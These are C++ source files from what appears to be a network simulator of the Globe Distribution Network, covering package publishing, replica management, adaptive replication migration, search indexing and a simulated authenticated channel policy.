  // the GLS caches (an explicitly set httpd option is preserved, though without
  // gls_cache no subnode has a cache to answer from).
  httpd_options.allow_cached_gls_lookups |= config_.gls_cache;
  for (size_t i = 0; i < countries_.size(); ++i) {
    goses_.push_back(std::make_unique<gos::ObjectServer>(
        transport_, countries_[i].gos_host, &repository_,
        gls_->LeafDirectoryFor(countries_[i].gos_host), &registry_, gos_options));
    httpds_.push_back(std::make_unique<GdnHttpd>(
        transport_, countries_[i].gos_host, config_.zone, naming_authority_->endpoint(),
        resolvers_[i]->endpoint(), gls_->LeafDirectoryFor(countries_[i].gos_host),
        &repository_, httpd_options));
  }

  // ---- The moderator machine and tool. ----
  moderator_host_ = world_.topology.AddNode("moderator", primary_site);
  AssignNodeShard(moderator_host_);
  if (config_.secure) {
    secure_transport_->SetNodeCredential(
        moderator_host_, registry_.Register("moderator-arno", sec::Role::kModerator));
    gdn_hosts_.insert(moderator_host_);
  }
  moderator_ = std::make_unique<ModeratorTool>(
      transport_, moderator_host_, config_.zone, naming_authority_->endpoint(),
      ResolverEndpointFor(moderator_host_), gls_->LeafDirectoryFor(moderator_host_),
      &repository_);

  SetupSecurity();
  SetupSearchIndex();
}

void GdnWorld::SetupSearchIndex() {
  // Create the index DSO: master on GOS 0, a slave on every other country's GOS —
  // the index is just another distributed shared object.
  Status status = Unavailable("pending");
  goses_[0]->CreateFirstReplica(
      dso::kProtoMasterSlave, kSearchIndexTypeId,
      [&](Result<std::pair<gls::ObjectId, gls::ContactAddress>> result) {
        if (result.ok()) {
          search_oid_ = result->first;
          status = OkStatus();
        } else {
          status = result.status();
        }
      });
  Run();
  if (!status.ok()) {
    GLOG_ERROR << "search index creation failed: " << status;
    return;
  }
  for (size_t i = 1; i < goses_.size(); ++i) {
    goses_[i]->CreateReplica(
        search_oid_, kSearchIndexTypeId, gls::ReplicaRole::kSlave,
        [](Result<std::pair<gls::ObjectId, gls::ContactAddress>>) {});
    Run();
  }
  for (auto& httpd : httpds_) {
    httpd->SetSearchIndex(search_oid_);
  }

  // The moderator host's admin handle for index updates.
  search_admin_runtime_ = std::make_unique<dso::RuntimeSystem>(
      transport_, moderator_host_, gls_->LeafDirectoryFor(moderator_host_), &repository_);
  std::unique_ptr<dso::BoundObject> bound;
  search_admin_runtime_->Bind(search_oid_, {},
                              [&](Result<std::unique_ptr<dso::BoundObject>> r) {
                                if (r.ok()) {
                                  bound = std::move(*r);
                                }
                              });
  Run();
  if (bound != nullptr) {
    search_admin_ = std::make_unique<SearchProxy>(std::move(bound));
  }
}

Status GdnWorld::RegisterInSearchIndex(const std::string& globe_name,
                                       const std::string& description) {
  if (search_admin_ == nullptr) {
    return FailedPrecondition("no search index available");
  }
  Status status = Unavailable("pending");
  search_admin_->Register(globe_name, description, [&](Status s) { status = s; });
  Run();
  return status;
}

Status GdnWorld::UnregisterFromSearchIndex(const std::string& globe_name) {
  if (search_admin_ == nullptr) {
    return FailedPrecondition("no search index available");
  }
  Status status = Unavailable("pending");
  search_admin_->Unregister(globe_name, [&](Status s) { status = s; });
  Run();
  return status;
}

Result<std::string> GdnWorld::SearchViaHttp(sim::NodeId user, const std::string& query) {
  auto browser = MakeBrowser(user);
  GdnHttpd* httpd = NearestHttpd(user);
  Result<std::string> out = Unavailable("pending");
  sim::SimTime started = engine_->Now();
  browser->Fetch(httpd->node(), "/search?q=" + http::UrlEncode(query),
                 [&](Result<http::HttpResponse> response) {
                   last_op_duration_ = engine_->Now() - started;
                   if (!response.ok()) {
                     out = response.status();
                     return;
                   }
                   if (response->status_code != 200) {
                     out = NotFound("HTTP " + std::to_string(response->status_code));
                     return;
                   }
                   out = ToString(response->body);
                 });
  Run();
  return out;
}

void GdnWorld::AssignNodeShard(sim::NodeId node) {
  if (sharded_ == nullptr) {
    return;
  }
  sim::DomainId d = world_.topology.NodeDomain(node);
  while (world_.topology.DomainDepth(d) > 1) {
    d = world_.topology.DomainParent(d);
  }
  auto it = continent_shard_.find(d);
  sharded_->AssignNode(node, it == continent_shard_.end() ? 0 : it->second);
}

void GdnWorld::CredentialHost(sim::NodeId node, const std::string& name) {
  // Every GDN host passes through here right after its AddNode; this is where
  // a sharded engine learns which continent shard owns the host.
  AssignNodeShard(node);
  gdn_hosts_.insert(node);
  if (config_.secure && secure_transport_ != nullptr) {
    secure_transport_->SetNodeCredential(
        node, registry_.Register(name + "." + std::to_string(node), sec::Role::kGdnHost));
  }
}

void GdnWorld::SetupSecurity() {
  if (!config_.secure) {
    return;
  }
  // Figure 4: GDN host <-> GDN host mutual; user machine -> GDN host server-auth;
  // user <-> user plain. Encryption per config.
  bool encrypt = config_.encrypt;
  secure_transport_->SetChannelPolicy(
      [this, encrypt](sim::NodeId src, sim::NodeId dst) {
        sec::ChannelConfig channel;
        bool src_trusted = IsGdnHost(src) || mutual_nodes_.count(src) > 0;
        bool dst_trusted = IsGdnHost(dst) || mutual_nodes_.count(dst) > 0;
        if (src_trusted && dst_trusted) {
          channel.auth = sec::AuthMode::kMutualAuth;
        } else if (src_trusted || dst_trusted) {
          channel.auth = sec::AuthMode::kServerAuth;
        }
        channel.encrypt = encrypt && channel.auth != sec::AuthMode::kPlain;
        return channel;
      });
}

int GdnWorld::CountryOf(sim::NodeId node) const {
  sim::DomainId domain = world_.topology.NodeDomain(node);
  for (size_t i = 0; i < countries_.size(); ++i) {
    if (world_.topology.IsAncestorOrSelf(countries_[i].domain, domain)) {
      return static_cast<int>(i);
    }
  }
  return -1;
}

GdnHttpd* GdnWorld::NearestHttpd(sim::NodeId user) {
  int country = CountryOf(user);
  return httpds_[country < 0 ? 0 : static_cast<size_t>(country)].get();
}

sim::Endpoint GdnWorld::ResolverEndpointFor(sim::NodeId node) const {
  int country = CountryOf(node);
  return resolvers_[country < 0 ? 0 : static_cast<size_t>(country)]->endpoint();
}

std::unique_ptr<Browser> GdnWorld::MakeBrowser(sim::NodeId user) {
  return std::make_unique<Browser>(transport_, user);
}

Result<gls::ObjectId> GdnWorld::PublishPackage(const std::string& globe_name,
                                               const std::map<std::string, Bytes>& files,
                                               gls::ProtocolId protocol,
                                               size_t master_country,
                                               std::vector<size_t> replica_countries,
                                               const std::string& description) {
  ReplicationScenario scenario;
  scenario.protocol = protocol;
  scenario.first_gos = goses_[master_country]->endpoint();
  for (size_t country : replica_countries) {
    scenario.replica_goses.push_back(goses_[country]->endpoint());
  }
  scenario.secondary_role = protocol == dso::kProtoCacheInval ? gls::ReplicaRole::kCache
                                                              : gls::ReplicaRole::kSlave;

  Result<gls::ObjectId> oid = Unavailable("pending");
  moderator_->CreatePackage(globe_name, scenario, [&](Result<gls::ObjectId> result) {
    oid = std::move(result);
  });
  Run();
  if (!oid.ok()) {
    return oid;
  }
  // Flush the naming batch so the name resolves immediately.
  naming_authority_->Flush();
  Run();

  for (const auto& [path, content] : files) {
    Status status = Unavailable("pending");
    moderator_->AddFile(globe_name, path, content, [&](Status s) { status = s; });
    Run();
    if (!status.ok()) {
      return status;
    }
  }
  if (!description.empty()) {
    Status status = Unavailable("pending");
    moderator_->SetDescription(globe_name, description, [&](Status s) { status = s; });
    Run();
    if (!status.ok()) {
      return status;
    }
    RETURN_IF_ERROR(RegisterInSearchIndex(globe_name, description));
  }
  if (controller_ != nullptr) {
    controller_->Track(*oid, protocol);
  }
  return oid;
}

ctl::ReplicationController* GdnWorld::EnableAdaptiveReplication(
    ctl::ControllerConfig config, bool start_timer) {
  if (controller_ != nullptr) {
    return controller_.get();
  }
  world_metrics_ = std::make_unique<ctl::MetricsRegistry>(transport_->clock());
  actuator_ = std::make_unique<WorldActuator>(this);
  controller_ = std::make_unique<ctl::ReplicationController>(
      transport_->clock(), world_metrics_.get(), actuator_.get(), config);
  adaptive_interval_ = config.evaluate_interval;

  // Track every package DSO currently mastered on a GOS. The search index is
  // GDN infrastructure and keeps its static master/slave deployment.
  for (auto& gos : goses_) {
    for (const gls::ObjectId& oid : gos->ReplicaOids()) {
      if (oid == search_oid_) {
        continue;
      }
      dso::ReplicationObject* replica = gos->FindReplica(oid);
      auto address = replica != nullptr ? replica->contact_address() : std::nullopt;
      if (address.has_value() && address->role == gls::ReplicaRole::kMaster) {
        controller_->Track(oid, gos->ProtocolOf(oid));
      }
    }
  }

  if (start_timer && adaptive_interval_ > 0) {
    ScheduleAdaptiveTick();
  }
  return controller_.get();
}

void GdnWorld::ScheduleAdaptiveTick() {
  // The evaluation pass reads every GOS's telemetry and executes migrations —
  // global state, so under a sharded engine it must run with all shards
  // quiescent. ScheduleBarrier degrades to ScheduleAt on a sequential engine.
  engine_->ScheduleBarrier(engine_->Now() + adaptive_interval_, [this] {
    EvaluateAdaptiveNow();
    ScheduleAdaptiveTick();
  });
}

void GdnWorld::EvaluateAdaptiveNow() {
  if (controller_ == nullptr) {
    return;
  }
  // Rebuild the global telemetry view: each GOS only sees the traffic its own
  // replica served, so the controller reads the merge of all of them.
  world_metrics_->Clear();
  for (auto& gos : goses_) {
    world_metrics_->MergeFrom(*gos->metrics());
  }
  controller_->EvaluateNow();
}

void GdnWorld::ExecuteMigration(const gls::ObjectId& oid,
                                const ctl::PolicyDecision& decision,
                                std::function<void(Status)> done) {
  // Locate the master GOS and the GOSes currently hosting secondaries.
  int master = -1;
  std::vector<size_t> secondaries;
  for (size_t i = 0; i < goses_.size(); ++i) {
    if (goses_[i]->ProtocolOf(oid) == 0) {
      continue;
    }
    dso::ReplicationObject* replica = goses_[i]->FindReplica(oid);
    auto address = replica != nullptr ? replica->contact_address() : std::nullopt;
    if (address.has_value() && address->role == gls::ReplicaRole::kMaster) {
      master = static_cast<int>(i);
    } else {
      secondaries.push_back(i);
    }
  }
  if (master < 0) {
    done(NotFound("no GOS masters " + oid.ToHex()));
    return;
  }
  uint16_t semantics_type = goses_[master]->SemanticsTypeOf(oid);
  gls::ProtocolId old_protocol = goses_[master]->ProtocolOf(oid);
  bool protocol_change = decision.protocol != old_protocol;

  // Target secondary countries (regions are country indices in this world).
  std::vector<size_t> targets;
  for (ctl::RegionId region : decision.replica_regions) {
    auto country = static_cast<size_t>(region);
    if (country < goses_.size() && static_cast<int>(country) != master) {
      targets.push_back(country);
    }
  }

  // A protocol change rebuilds every secondary (the old ones speak the old
  // protocol); a placement-only change touches just the set difference.
  std::vector<size_t> to_remove;
  std::vector<size_t> to_add;
  for (size_t s : secondaries) {
    if (protocol_change ||
        std::find(targets.begin(), targets.end(), s) == targets.end()) {
      to_remove.push_back(s);
    }
  }
  for (size_t t : targets) {
    if (protocol_change ||
        std::find(secondaries.begin(), secondaries.end(), t) == secondaries.end()) {
      to_add.push_back(t);
    }
  }

  gls::ReplicaRole new_role = decision.protocol == dso::kProtoCacheInval
                                  ? gls::ReplicaRole::kCache
                                  : gls::ReplicaRole::kSlave;

  // Phase 3: create the new secondaries under the (possibly new) protocol.
  auto add_phase = std::make_shared<std::function<void(Status)>>(
      [this, oid, semantics_type, new_role, to_add,
       done = std::move(done)](Status prior) mutable {
        if (!prior.ok() || to_add.empty()) {
          done(prior);
          return;
        }
        auto remaining = std::make_shared<size_t>(to_add.size());
        auto first_error = std::make_shared<Status>(OkStatus());
        for (size_t t : to_add) {
          goses_[t]->CreateReplica(
              oid, semantics_type, new_role,
              [remaining, first_error, done](
                  Result<std::pair<gls::ObjectId, gls::ContactAddress>> r) {
                if (!r.ok() && first_error->ok()) {
                  *first_error = r.status();
                }
                if (--*remaining == 0) {
                  done(*first_error);
                }
              });
        }
      });

  // Phase 2: switch the master's protocol (epoch-fenced; see
  // gos::ObjectServer::SwitchProtocol).
  auto switch_phase = [this, oid, protocol_change,
                       new_protocol = decision.protocol, master,
                       add_phase](Status prior) {
    if (!prior.ok() || !protocol_change) {
      (*add_phase)(prior);
      return;
    }
    goses_[master]->SwitchProtocol(
        oid, new_protocol, [add_phase](Status s) { (*add_phase)(s); });
  };

  // Phase 1: retire the secondaries that do not survive.
  if (to_remove.empty()) {
    switch_phase(OkStatus());
    return;
  }
  auto remaining = std::make_shared<size_t>(to_remove.size());
  auto first_error = std::make_shared<Status>(OkStatus());
  auto next = std::make_shared<std::function<void(Status)>>(std::move(switch_phase));
  for (size_t s : to_remove) {
    goses_[s]->RemoveReplica(oid, [remaining, first_error, next](Status st) {
      if (!st.ok() && first_error->ok()) {
        *first_error = st;
      }
      if (--*remaining == 0) {
        (*next)(*first_error);
      }
    });
  }
}

sec::PrincipalId GdnWorld::AddMaintainerMachine(const std::string& name,
                                                sim::NodeId node) {
  sec::Credential credential = registry_.Register(name, sec::Role::kMaintainer);
  if (config_.secure && secure_transport_ != nullptr) {
    secure_transport_->SetNodeCredential(node, credential);
    mutual_nodes_.insert(node);
  }
  return credential.id;
}

Result<gls::ObjectId> GdnWorld::PublishPackageWithMaintainers(
    const std::string& globe_name, const std::map<std::string, Bytes>& files,
    gls::ProtocolId protocol, size_t master_country,
    std::vector<size_t> replica_countries,
    std::vector<sec::PrincipalId> maintainers) {
  ReplicationScenario scenario;
  scenario.protocol = protocol;
  scenario.first_gos = goses_[master_country]->endpoint();
  for (size_t country : replica_countries) {
    scenario.replica_goses.push_back(goses_[country]->endpoint());
  }
  scenario.secondary_role = protocol == dso::kProtoCacheInval ? gls::ReplicaRole::kCache
                                                              : gls::ReplicaRole::kSlave;
  scenario.maintainers = std::move(maintainers);

  Result<gls::ObjectId> oid = Unavailable("pending");
  moderator_->CreatePackage(globe_name, scenario, [&](Result<gls::ObjectId> result) {
    oid = std::move(result);
  });
  Run();
  if (!oid.ok()) {
    return oid;
  }
  naming_authority_->Flush();
  Run();
  for (const auto& [path, content] : files) {
    Status status = Unavailable("pending");
    moderator_->AddFile(globe_name, path, content, [&](Status s) { status = s; });
    Run();
    if (!status.ok()) {
      return status;
    }
  }
  if (controller_ != nullptr) {
    controller_->Track(*oid, protocol);
  }
  return oid;
}

Result<Bytes> GdnWorld::DownloadFile(sim::NodeId user, const std::string& globe_name,
                                     const std::string& file_path) {
  auto browser = MakeBrowser(user);
  GdnHttpd* httpd = NearestHttpd(user);
  std::string target =
      http::UrlEncode("/packages" + globe_name + "/files/" + file_path);
  Result<Bytes> out = Unavailable("pending");
  sim::SimTime started = engine_->Now();
  browser->Fetch(httpd->node(), target, [&](Result<http::HttpResponse> response) {
    last_op_duration_ = engine_->Now() - started;
    if (!response.ok()) {
      out = response.status();
      return;
    }
    if (response->status_code != 200) {
      out = NotFound("HTTP " + std::to_string(response->status_code) + ": " +
                     ToString(response->body));
      return;
    }
    out = std::move(response->body);
  });
  Run();
  return out;
}

Result<std::string> GdnWorld::FetchListing(sim::NodeId user,
                                           const std::string& globe_name) {
  auto browser = MakeBrowser(user);
  GdnHttpd* httpd = NearestHttpd(user);
  Result<std::string> out = Unavailable("pending");
  sim::SimTime started = engine_->Now();
  browser->Fetch(httpd->node(), http::UrlEncode("/packages" + globe_name),
                 [&](Result<http::HttpResponse> response) {
                   last_op_duration_ = engine_->Now() - started;
                   if (!response.ok()) {
                     out = response.status();
                     return;
                   }
                   if (response->status_code != 200) {
                     out = NotFound("HTTP " + std::to_string(response->status_code));
                     return;
                   }
                   out = ToString(response->body);
                 });
  Run();
  return out;
}

}  // namespace globe::gdn
