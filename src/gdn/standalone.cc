#include "src/gdn/standalone.h"

#include "src/gdn/package.h"
#include "src/util/log.h"

namespace globe::gdn {

sim::NodeId StandaloneGdnNode::AddHost(
    const std::string& name, const std::function<void(sim::NodeId)>& on_node_created) {
  sim::NodeId node = topology_.AddNode(name, domain_);
  if (on_node_created) {
    on_node_created(node);
  }
  return node;
}

StandaloneGdnNode::StandaloneGdnNode(sim::Transport* transport,
                                     StandaloneNodeOptions options,
                                     std::function<void(sim::NodeId)> on_node_created)
    : options_(std::move(options)), transport_(transport) {
  domain_ = topology_.AddDomain("standalone", sim::kNoDomain);
  repository_.RegisterSemantics(std::make_unique<PackageObject>());

  // One-domain GLS: a single directory subnode acting as root and leaf.
  gls_ = std::make_unique<gls::GlsDeployment>(transport_, &topology_, &registry_,
                                              gls::GlsDeploymentOptions{},
                                              on_node_created);

  // DNS substrate: a primary for the zone and the GNS naming authority.
  tsig_keys_["gdn-na"] = Bytes{0x6e, 0x61, 0x2d, 0x6b, 0x65, 0x79, 0x21, 0x21};
  sim::NodeId dns_host = AddHost("dns.primary", on_node_created);
  dns_primary_ =
      std::make_unique<dns::AuthoritativeServer>(transport_, dns_host, tsig_keys_);
  dns_primary_->AddZone(dns::Zone(options_.zone, /*soa_minimum_ttl=*/300),
                        /*primary=*/true);

  sim::NodeId na_host = AddHost("gns.authority", on_node_created);
  dns::NamingAuthorityOptions na_options = options_.naming_authority;
  na_options.record_ttl = options_.gns_record_ttl;
  // No secure transport in the standalone stack: like the paper's June-2000
  // first version, the naming authority accepts unauthenticated moderators.
  na_options.enforce_authorization = false;
  naming_authority_ = std::make_unique<dns::GnsNamingAuthority>(
      transport_, na_host, options_.zone, &registry_, "gdn-na", tsig_keys_["gdn-na"],
      dns_primary_->endpoint(), na_options);

  sim::NodeId resolver_host = AddHost("resolver", on_node_created);
  resolver_ = std::make_unique<dns::CachingResolver>(transport_, resolver_host);
  resolver_->AddUpstream(options_.zone, dns_primary_->endpoint());

  // The object server with its colocated GDN-enabled HTTPD.
  gos_host_ = AddHost("gos", on_node_created);
  gos_ = std::make_unique<gos::ObjectServer>(transport_, gos_host_, &repository_,
                                             gls_->LeafDirectoryFor(gos_host_),
                                             &registry_, gos::GosOptions{});
  httpd_ = std::make_unique<GdnHttpd>(transport_, gos_host_, options_.zone,
                                      naming_authority_->endpoint(),
                                      resolver_->endpoint(),
                                      gls_->LeafDirectoryFor(gos_host_), &repository_,
                                      options_.httpd);

  moderator_host_ = AddHost("moderator", on_node_created);
  moderator_ = std::make_unique<ModeratorTool>(
      transport_, moderator_host_, options_.zone, naming_authority_->endpoint(),
      resolver_->endpoint(), gls_->LeafDirectoryFor(moderator_host_), &repository_);
}

Result<gls::ObjectId> StandaloneGdnNode::PublishPackage(
    const std::string& globe_name, const std::map<std::string, Bytes>& files,
    const Pump& pump) {
  ReplicationScenario scenario;
  scenario.protocol = dso::kProtoMasterSlave;
  scenario.first_gos = gos_->endpoint();

  Result<gls::ObjectId> oid = Unavailable("pending");
  bool created = false;
  moderator_->CreatePackage(globe_name, scenario, [&](Result<gls::ObjectId> result) {
    oid = std::move(result);
    created = true;
  });
  if (!pump([&]() { return created; })) {
    return Unavailable("create package did not complete");
  }
  if (!oid.ok()) {
    return oid;
  }

  // Flush the naming batch and let the DNS update settle so the globe name
  // resolves on the next HTTP GET.
  naming_authority_->Flush();
  pump(nullptr);

  for (const auto& [path, content] : files) {
    Status status = Unavailable("pending");
    bool added = false;
    moderator_->AddFile(globe_name, path, content, [&](Status s) {
      status = s;
      added = true;
    });
    if (!pump([&]() { return added; })) {
      return Unavailable("add file did not complete: " + path);
    }
    if (!status.ok()) {
      return status;
    }
  }
  return oid;
}

}  // namespace globe::gdn
