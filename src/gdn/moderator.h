// The moderator tool (paper §4, §6.1): the program a GDN moderator uses to add,
// update and delete package DSOs.
//
// Creating a package follows the paper's procedure exactly:
//   1. The moderator defines the replication scenario: which protocol, and which
//      Globe Object Servers host replicas.
//   2. The tool sends "create first replica" to one GOS in the scenario; that GOS
//      constructs the local representative and registers a contact address in the
//      GLS, which allocates the object identifier.
//   3. The other GOSs get "bind to DSO <OID>, create replica" commands.
//   4. The tool registers a symbolic name for the OID with the GNS Naming Authority.
//
// The tool keeps a local catalog of the packages it created (name -> OID and
// scenario) so update and removal know every replica location — GLS lookups
// deliberately return only the *nearest* replica.

#ifndef SRC_GDN_MODERATOR_H_
#define SRC_GDN_MODERATOR_H_

#include <map>
#include <memory>
#include <string>
#include <vector>

#include "src/dns/gns.h"
#include "src/dso/runtime.h"
#include "src/gdn/package.h"

namespace globe::gdn {

// "How (using what replication protocol) and where (which machines should host
// replicas)" a package DSO is replicated (paper §3.1).
struct ReplicationScenario {
  gls::ProtocolId protocol = dso::kProtoMasterSlave;
  sim::Endpoint first_gos;                  // receives "create first replica"
  std::vector<sim::Endpoint> replica_goses; // receive "bind + create replica"
  gls::ReplicaRole secondary_role = gls::ReplicaRole::kSlave;
  // Principals allowed to manage this package's contents besides moderators —
  // the GDN maintainer role (paper §2 future work).
  std::vector<sec::PrincipalId> maintainers;
};

struct ModeratorStats {
  uint64_t packages_created = 0;
  uint64_t packages_removed = 0;
  uint64_t files_added = 0;
  uint64_t failures = 0;
};

class ModeratorTool {
 public:
  ModeratorTool(sim::Transport* transport, sim::NodeId node, std::string zone,
                sim::Endpoint naming_authority, sim::Endpoint resolver,
                gls::DirectoryRef leaf_directory,
                const dso::ImplementationRepository* repository);

  using OidCallback = std::function<void(Result<gls::ObjectId>)>;
  using DoneCallback = std::function<void(Status)>;
  using ProxyCallback = std::function<void(Result<std::unique_ptr<PackageProxy>>)>;

  // Steps 1-4 above. `done` fires once the package exists, is replicated per the
  // scenario and is named in the GNS.
  void CreatePackage(std::string globe_name, ReplicationScenario scenario,
                     OidCallback done);

  // Binds to the package and adds/updates a file.
  void AddFile(std::string_view globe_name, std::string_view path, Bytes content,
               DoneCallback done);
  void SetDescription(std::string_view globe_name, std::string_view text,
                      DoneCallback done);

  // Removes every replica listed in the catalog, then the GNS name.
  void RemovePackage(std::string_view globe_name, DoneCallback done);

  // Opens a typed proxy to a package for arbitrary use.
  void OpenPackage(std::string_view globe_name, ProxyCallback done);

  const ModeratorStats& stats() const { return stats_; }

  struct CatalogEntry {
    gls::ObjectId oid;
    ReplicationScenario scenario;
  };
  const std::map<std::string, CatalogEntry, std::less<>>& catalog() const {
    return catalog_;
  }

 private:
  void CreateSecondaries(const gls::ObjectId& oid, ReplicationScenario scenario,
                         std::string globe_name, OidCallback done);
  void RegisterName(const gls::ObjectId& oid, const std::string& globe_name,
                    OidCallback done);

  std::unique_ptr<sim::Channel> rpc_;
  dns::GnsClient gns_;
  dso::RuntimeSystem runtime_;
  std::map<std::string, CatalogEntry, std::less<>> catalog_;
  ModeratorStats stats_;
};

}  // namespace globe::gdn

#endif  // SRC_GDN_MODERATOR_H_
