#include "src/gdn/package.h"

#include "src/util/sha256.h"

namespace globe::gdn {

Result<Bytes> PackageObject::Invoke(const dso::Invocation& invocation) {
  ByteReader r(invocation.args);

  if (invocation.method == "pkg.addFile") {
    ASSIGN_OR_RETURN(std::string path, r.ReadString());
    ASSIGN_OR_RETURN(ByteSpan content, r.ReadLengthPrefixedView());
    if (path.empty()) {
      return InvalidArgument("file path may not be empty");
    }
    // Digest over the view; the one copy is the content entering the package.
    std::string digest = Sha256::HexDigest(content);
    files_[path] = FileEntry{ToBytes(content), std::move(digest)};
    return Bytes{};
  }

  if (invocation.method == "pkg.removeFile") {
    ASSIGN_OR_RETURN(std::string path, r.ReadString());
    if (files_.erase(path) == 0) {
      return NotFound("no such file in package: " + path);
    }
    return Bytes{};
  }

  if (invocation.method == "pkg.setDescription") {
    ASSIGN_OR_RETURN(description_, r.ReadString());
    return Bytes{};
  }

  if (invocation.method == "pkg.listContents") {
    ByteWriter w;
    w.WriteVarint(files_.size());
    for (const auto& [path, entry] : files_) {
      w.WriteString(path);
      w.WriteU64(entry.content.size());
      w.WriteString(entry.sha256_hex);
    }
    return w.Take();
  }

  if (invocation.method == "pkg.getFileContents") {
    ASSIGN_OR_RETURN(std::string path, r.ReadString());
    auto it = files_.find(path);
    if (it == files_.end()) {
      return NotFound("no such file in package: " + path);
    }
    return it->second.content;
  }

  if (invocation.method == "pkg.getFileInfo") {
    ASSIGN_OR_RETURN(std::string path, r.ReadString());
    auto it = files_.find(path);
    if (it == files_.end()) {
      return NotFound("no such file in package: " + path);
    }
    ByteWriter w;
    w.WriteString(path);
    w.WriteU64(it->second.content.size());
    w.WriteString(it->second.sha256_hex);
    return w.Take();
  }

  if (invocation.method == "pkg.getDescription") {
    ByteWriter w;
    w.WriteString(description_);
    return w.Take();
  }

  return NotFound("package DSO has no method " + invocation.method);
}

Bytes PackageObject::GetState() const {
  ByteWriter w;
  w.WriteString(description_);
  w.WriteVarint(files_.size());
  for (const auto& [path, entry] : files_) {
    w.WriteString(path);
    w.WriteLengthPrefixed(entry.content);
    w.WriteString(entry.sha256_hex);
  }
  return w.Take();
}

Status PackageObject::SetState(ByteSpan state) {
  ByteReader r(state);
  std::string description;
  std::map<std::string, FileEntry> files;
  ASSIGN_OR_RETURN(description, r.ReadString());
  ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
  for (uint64_t i = 0; i < count; ++i) {
    ASSIGN_OR_RETURN(std::string path, r.ReadString());
    FileEntry entry;
    ASSIGN_OR_RETURN(ByteSpan content, r.ReadLengthPrefixedView());
    ASSIGN_OR_RETURN(entry.sha256_hex, r.ReadString());
    // Integrity check: reject state whose digests do not match the content
    // (§6.1) — over the view, before paying the copy into the package.
    if (Sha256::HexDigest(content) != entry.sha256_hex) {
      return DataLoss("file digest mismatch in package state for " + path);
    }
    entry.content = ToBytes(content);
    files[path] = std::move(entry);
  }
  description_ = std::move(description);
  files_ = std::move(files);
  return OkStatus();
}

std::unique_ptr<dso::SemanticsObject> PackageObject::CloneEmpty() const {
  return std::make_unique<PackageObject>();
}

uint64_t PackageObject::total_bytes() const {
  uint64_t total = 0;
  for (const auto& [path, entry] : files_) {
    total += entry.content.size();
  }
  return total;
}

namespace pkg {

dso::Invocation AddFile(std::string_view path, ByteSpan content) {
  ByteWriter w;
  w.WriteString(path);
  w.WriteLengthPrefixed(content);
  return dso::Invocation{"pkg.addFile", w.Take(), /*read_only=*/false};
}

dso::Invocation RemoveFile(std::string_view path) {
  ByteWriter w;
  w.WriteString(path);
  return dso::Invocation{"pkg.removeFile", w.Take(), /*read_only=*/false};
}

dso::Invocation SetDescription(std::string_view text) {
  ByteWriter w;
  w.WriteString(text);
  return dso::Invocation{"pkg.setDescription", w.Take(), /*read_only=*/false};
}

dso::Invocation ListContents() {
  return dso::Invocation{"pkg.listContents", {}, /*read_only=*/true};
}

dso::Invocation GetFileContents(std::string_view path) {
  ByteWriter w;
  w.WriteString(path);
  return dso::Invocation{"pkg.getFileContents", w.Take(), /*read_only=*/true};
}

dso::Invocation GetFileInfo(std::string_view path) {
  ByteWriter w;
  w.WriteString(path);
  return dso::Invocation{"pkg.getFileInfo", w.Take(), /*read_only=*/true};
}

dso::Invocation GetDescription() {
  return dso::Invocation{"pkg.getDescription", {}, /*read_only=*/true};
}

Result<std::vector<FileInfo>> ParseListContents(ByteSpan data) {
  ByteReader r(data);
  ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
  std::vector<FileInfo> files;
  files.reserve(count);
  for (uint64_t i = 0; i < count; ++i) {
    FileInfo info;
    ASSIGN_OR_RETURN(info.path, r.ReadString());
    ASSIGN_OR_RETURN(info.size, r.ReadU64());
    ASSIGN_OR_RETURN(info.sha256_hex, r.ReadString());
    files.push_back(std::move(info));
  }
  return files;
}

Result<FileInfo> ParseFileInfo(ByteSpan data) {
  ByteReader r(data);
  FileInfo info;
  ASSIGN_OR_RETURN(info.path, r.ReadString());
  ASSIGN_OR_RETURN(info.size, r.ReadU64());
  ASSIGN_OR_RETURN(info.sha256_hex, r.ReadString());
  return info;
}

}  // namespace pkg

void PackageProxy::InvokeStatus(dso::Invocation invocation, StatusCallback done) {
  bound_->Invoke(std::move(invocation.method), std::move(invocation.args),
                 invocation.read_only, [done = std::move(done)](Result<Bytes> result) {
                   done(result.ok() ? OkStatus() : result.status());
                 });
}

void PackageProxy::AddFile(std::string_view path, ByteSpan content, StatusCallback done) {
  InvokeStatus(pkg::AddFile(path, content), std::move(done));
}

void PackageProxy::RemoveFile(std::string_view path, StatusCallback done) {
  InvokeStatus(pkg::RemoveFile(path), std::move(done));
}

void PackageProxy::SetDescription(std::string_view text, StatusCallback done) {
  InvokeStatus(pkg::SetDescription(text), std::move(done));
}

void PackageProxy::ListContents(ListCallback done) {
  dso::Invocation invocation = pkg::ListContents();
  bound_->Invoke(std::move(invocation.method), std::move(invocation.args), true,
                 [done = std::move(done)](Result<Bytes> result) {
                   if (!result.ok()) {
                     done(result.status());
                     return;
                   }
                   done(pkg::ParseListContents(*result));
                 });
}

void PackageProxy::GetFileContents(std::string_view path, ContentCallback done) {
  dso::Invocation invocation = pkg::GetFileContents(path);
  bound_->Invoke(std::move(invocation.method), std::move(invocation.args), true,
                 [done = std::move(done)](Result<Bytes> result) { done(std::move(result)); });
}

void PackageProxy::GetDescription(TextCallback done) {
  dso::Invocation invocation = pkg::GetDescription();
  bound_->Invoke(std::move(invocation.method), std::move(invocation.args), true,
                 [done = std::move(done)](Result<Bytes> result) {
                   if (!result.ok()) {
                     done(result.status());
                     return;
                   }
                   ByteReader r(*result);
                   done(r.ReadString());
                 });
}

}  // namespace globe::gdn
