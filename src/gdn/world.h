// GdnWorld: the complete GDN deployment from the paper's Figure 3, in one object.
//
// Builds, over one simulator run:
//   - a hierarchical Internet (continents > countries > sites) with user machines,
//   - the Globe Location Service directory tree (one directory node per domain,
//     optionally partitioned at the top),
//   - the DNS-based GNS: a primary authoritative server for the GDN Zone,
//     secondaries refreshed by zone transfer, one caching resolver per country, and
//     the GNS Naming Authority,
//   - one Globe Object Server per country with a colocated GDN-enabled HTTPD,
//   - a moderator machine running the moderator tool,
//   - optionally, the Figure-4 TLS channel policy: mutual authentication between GDN
//     hosts, server authentication towards user machines, and role-enforced
//     authorization at the GLS, GOS, Naming Authority and replica write paths.
//
// Tests, examples and benchmarks all build their scenarios on this harness.

#ifndef SRC_GDN_WORLD_H_
#define SRC_GDN_WORLD_H_

#include <map>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "src/ctl/controller.h"
#include "src/dns/gns.h"
#include "src/dns/resolver.h"
#include "src/dns/server.h"
